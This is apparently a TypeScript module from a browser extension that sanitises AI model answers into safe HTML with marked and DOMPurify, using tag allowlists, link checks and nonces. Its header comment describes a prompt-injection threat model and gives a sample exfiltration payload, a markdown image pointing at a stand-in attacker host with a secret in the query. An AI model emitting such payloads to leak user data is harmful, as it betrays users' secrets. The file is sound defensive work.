/**
 * Model output → safe HTML: marked (GFM) renders, DOMPurify sanitises through a strict allowlist. An answer
 * may have been written by a page's injected instructions, so nothing in it may make a request by being
 * rendered: no element or attribute that loads a resource (images, media, frames, SVG, MathML, CSS, forms,
 * meta, base…), no `style`, `class`, `id` or `on*`, and links only to http(s) and mailto and two pages of the
 * extension: the spreadsheet reader with a checked range and the viewer of a folder document (each address checked
 * whole), opened in a new
 * tab without opener or referrer. Images become links, so ![](https://attacker/?q=<secret>) needs a click.
 * Links carry the destination the panel shows beside them (`data-host`, `title`) and are marked
 * (`data-suspicious`) when they carry data; these attributes are set here, after the model's are removed.
 * Controls (the code blocks' Copy buttons) are not in this HTML: the panel adds them (add-code-toolbars).
 */
import DOMPurify, { type DOMPurify as Purifier } from 'dompurify';
import { Marked } from 'marked';
import { describeLink } from './describe-link';
import { ownSheetView } from './own-sheet-view';
import { t } from './t';

const ALLOWED_TAGS = [
  'a',
  'abbr',
  'b',
  'blockquote',
  'br',
  'caption',
  'code',
  'dd',
  'del',
  'details',
  'div',
  'dl',
  'dt',
  'em',
  'h1',
  'h2',
  'h3',
  'h4',
  'h5',
  'h6',
  'hr',
  'i',
  'ins',
  'kbd',
  'li',
  'mark',
  'ol',
  'p',
  'pre',
  'q',
  's',
  'samp',
  'small',
  'span',
  'strong',
  'sub',
  'summary',
  'sup',
  'table',
  'tbody',
  'td',
  'tfoot',
  'th',
  'thead',
  'tr',
  'u',
  'ul',
  'var',
];
/** Our own classes travel in this attribute with a per-render nonce, so the model cannot forge them. */
const TRUST_ATTR = 'data-tw-trust';
/** Attributes that are never URLs; DOMPurify would otherwise hold their values to SAFE_HREF too. */
const PLAIN_ATTR = ['align', 'colspan', 'rowspan', 'start', TRUST_ATTR];
const ALLOWED_ATTR = ['href', ...PLAIN_ATTR];
// chrome-extension: only for the spreadsheet reader (own-sheet-view.ts) and the viewer of a folder document
// (describe-link.ts), each address checked whole in the hook below.
const SAFE_HREF = /^(?:https?:|mailto:|chrome-extension:)/i;

const ALLOWED_TAG_SET = new Set(ALLOWED_TAGS);
/**
 * Raw HTML the model wrote, with every tag whose name is not allowed turned into text BEFORE anything parses
 * it: Chromium starts loading some elements even in the inert document a sanitiser parses into (a
 * `<track default src>` does), so what DOMPurify would remove must not become an element at all. Only
 * `<` + letter starts a tag, and only html tokens carry a raw `<` (marked escapes all other text).
 */
const escapeDisallowedTags = (html: string) =>
  html.replace(/<(\/?)([a-zA-Z][^\s/>]*)/g, (tag, _slash: string, name: string) =>
    ALLOWED_TAG_SET.has(name.toLowerCase()) ? tag : `&lt;${tag.slice(1)}`,
  );

const escapeHtml = (text: string) =>
  text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

/** The nonce of the render in progress (renders are synchronous, so one at a time). */
let nonce = '';
const trusted = (className: string) => `${TRUST_ATTR}="${nonce} ${className}"`;

const marked = new Marked({ gfm: true, breaks: false, async: false });
marked.use({
  renderer: {
    image({ href, text }) {
      return `<a href="${escapeHtml(href)}" ${trusted('image-link')}>${escapeHtml(t('md_image_link', text || href))}</a>`;
    },
    code({ text, lang }) {
      const language = (lang ?? '').match(/^[\w+-]+/)?.[0] ?? '';
      return `<div ${trusted('code-block')}><pre><code${language ? ` ${trusted(`language-${language}`)}` : ''}>${escapeHtml(text)}</code></pre></div>`;
    },
    html({ text }) {
      return escapeDisallowedTags(text);
    },
    // A task list's box is text, not an <input>: answers draw no form controls.
    checkbox({ checked }) {
      return checked ? '☑ ' : '☐ ';
    },
  },
});

let purifier: Purifier | undefined;
function getPurifier(): Purifier {
  if (purifier) return purifier;
  // A private instance: its hooks apply to answers only, not to anything else that uses DOMPurify.
  const purify = DOMPurify(window);
  purify.addHook('afterSanitizeAttributes', (node) => {
    const mark = node.getAttribute(TRUST_ATTR);
    if (mark !== null) {
      node.removeAttribute(TRUST_ATTR);
      if (nonce && mark.startsWith(`${nonce} `)) node.setAttribute('class', mark.slice(nonce.length + 1));
    }
    if (node.tagName !== 'A') {
      node.removeAttribute('href');
      return;
    }
    const link = describeLink(node.getAttribute('href') ?? '');
    const reader = link ? undefined : ownSheetView(node.getAttribute('href') ?? '');
    if (reader) {
      node.setAttribute('href', reader);
      node.setAttribute('title', reader);
      node.setAttribute('data-host', t('sheet_view_host'));
    } else if (link) {
      node.setAttribute('title', node.getAttribute('href') ?? '');
      node.setAttribute('data-host', link.host);
      if (link.suspicious) node.setAttribute('data-suspicious', link.suspicious);
    } else {
      node.removeAttribute('href');
    }
    node.setAttribute('target', '_blank');
    node.setAttribute('rel', 'noopener noreferrer');
  });
  purifier = purify;
  return purify;
}

export function renderMarkdown(markdown: string): string {
  const purify = getPurifier();
  nonce = crypto.randomUUID();
  try {
    const html = marked.parse(markdown) as string;
    return purify.sanitize(html, {
      ALLOWED_TAGS,
      ALLOWED_ATTR,
      ALLOWED_NAMESPACES: ['http://www.w3.org/1999/xhtml'],
      ALLOWED_URI_REGEXP: SAFE_HREF,
      ADD_URI_SAFE_ATTR: PLAIN_ATTR,
      ALLOW_DATA_ATTR: false,
      ALLOW_ARIA_ATTR: false,
      ALLOW_UNKNOWN_PROTOCOLS: false,
      ALLOW_SELF_CLOSE_IN_ATTR: false,
      SAFE_FOR_XML: true,
    });
  } finally {
    nonce = '';
  }
}
